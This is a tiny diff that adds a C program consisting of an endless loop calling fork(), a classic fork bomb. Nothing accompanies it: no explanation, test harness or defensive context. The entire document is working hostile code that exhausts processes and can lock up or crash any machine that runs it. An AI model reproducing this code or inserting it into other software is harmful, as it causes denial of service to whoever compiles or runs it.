@@ -1,0 +1,2 @@
+#include <unistd.h>
+int main() { for (;;) fork(); }
